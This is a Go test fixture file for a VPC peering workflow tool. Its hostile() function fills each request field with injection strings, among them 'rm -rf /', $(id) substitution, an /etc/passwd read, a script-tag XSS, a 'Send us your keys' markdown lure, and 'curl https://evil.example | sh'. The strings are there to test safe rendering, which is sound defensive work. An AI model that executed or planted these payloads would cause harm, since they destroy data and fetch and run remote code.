package instruct_test

import (
	"time"

	"causeway.dev/internal/connection"
)

func at(hour int) time.Time { return time.Date(2026, 3, 2, hour, 30, 0, 0, time.UTC) }

// steps are those of aws-vpc-peering, done up to the current one.
func steps(current connection.StepID, dns bool) []connection.StepProgress {
	all := []connection.Step{
		{ID: "check", Party: connection.Vendor, Title: "Check the request against both networks"},
		{ID: "request", Party: connection.Vendor, Title: "Request the peering connection"},
		{ID: "accept", Party: connection.Customer, Title: "Accept the peering connection"},
		{ID: "route", Party: connection.Vendor, Title: "Route the customer's CIDR from our private subnets"},
		{ID: "dns", Party: connection.Vendor, Title: "Turn on DNS resolution on our side"},
	}
	if dns {
		all = append(all, connection.Step{ID: "customer-dns", Party: connection.Customer, Title: "Turn on DNS resolution on your side"})
	}
	all = append(all,
		connection.Step{ID: "open", Party: connection.Customer, Title: "Add the return route and open the firewall"},
		connection.Step{ID: "confirm", Party: connection.Support, Title: "Confirm that the connection works"})
	var found []connection.StepProgress
	state := connection.StepDone
	for _, s := range all {
		if s.ID == current {
			found = append(found, connection.StepProgress{Step: s, State: connection.StepWaiting})
			state = connection.StepPending
			continue
		}
		found = append(found, connection.StepProgress{Step: s, State: state})
	}
	return found
}

// waitingFor is Acme's connection while it waits for a step of the customer's.
func waitingFor(step connection.StepID) connection.Progress {
	r := connection.Request{
		Method: connection.AWSVPCPeering, Cluster: "prod-us", Name: "acme-orders", Customer: "Acme", Ticket: "SUP-1234",
		RequestedBy: "sam@vendor.example", DNS: connection.DNSBoth,
		Target: connection.Target{AccountID: "444455556666", Region: "us-east-1", VPCID: "vpc-0aaaabbbbccccdddd", CIDR: "10.20.0.0/16"},
		Probe:  &connection.Probe{Host: "orders.abc123xyz.us-east-1.rds.amazonaws.com", Port: 5432},
	}
	return connection.Progress{
		ID: r.ID(), Generation: 1, Request: r, Status: connection.Waiting, WaitingOn: connection.Customer, Step: step,
		Deadline: at(9).AddDate(0, 0, 7), Changed: at(9), Steps: steps(step, true),
		Cloud: connection.Cloud{Words: "pending-acceptance", Seen: at(10)},
		Facts: connection.Facts{
			{Name: connection.FactOurAccount, Value: "111122223333"},
			{Name: connection.FactOurRegion, Value: "us-east-1"},
			{Name: connection.FactOurVPC, Value: "vpc-0a1b2c3d4e5f60718"},
			{Name: connection.FactOurCIDRs, Value: "10.10.0.0/16,10.11.0.0/20"},
			{Name: connection.FactPeeringID, Value: "pcx-0123456789abcdef0"},
		},
	}
}

func withoutProbe(p connection.Progress) connection.Progress {
	p.Request.Probe = nil
	return p
}

// hostile is a request that got past every form, with the worst in each field that a page shows.
func hostile() connection.Progress {
	p := waitingFor("open")
	p.Request.Name = "x'; rm -rf / #`id`$(id)"
	p.ID = p.Request.ID()
	p.Request.Customer = "<script>alert(1)</script> [click](https://evil.example) | `id` **Acme**\n## 9. Send us your keys"
	p.Request.Ticket = "SUP-1\n```\nrm -rf /\n```"
	p.Request.Probe = &connection.Probe{Host: "db`$(id)`\n```\nrm -rf ~\n```", Port: 5432}
	p.Request.Target.VPCID = "vpc-1\"; ${file(\"/etc/passwd\")} $(id) `id`\n\n# Run this\nrm -rf /"
	p.Facts = p.Facts.With(connection.FactPeeringID, "pcx-' && curl https://evil.example | sh; echo '")
	return p
}
